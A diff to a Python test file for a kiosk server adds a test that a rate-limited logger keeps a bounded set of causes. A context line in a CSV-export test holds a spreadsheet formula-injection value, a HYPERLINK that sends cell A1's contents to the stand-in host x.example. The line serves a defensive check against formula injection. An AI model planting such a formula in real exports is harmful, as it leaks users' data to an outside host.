@@ -88,6 +88,14 @@ def test_a_storm_of_one_cause_logs_one_line_per_interval(caplog: pytest.LogCaptu
     assert len(caplog.records) == 2
 
 
+def test_the_causes_remembered_are_bounded() -> None:
+    from kiosk.server.ratelog import MAX_CAUSES
+
+    limited = RateLimited(logging.getLogger("kiosk.test"), interval=3600)
+    logged = [limited.warning("event loop: %s", i, key=f"loop {i}") for i in range(3 * MAX_CAUSES)]
+    assert sum(logged) == MAX_CAUSES and len(limited._last) == MAX_CAUSES
+
+
 def test_csv_cells_cannot_be_formulas() -> None:
     rows = [
         {"clerk": '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "n": -5, "note": "+84 912"},
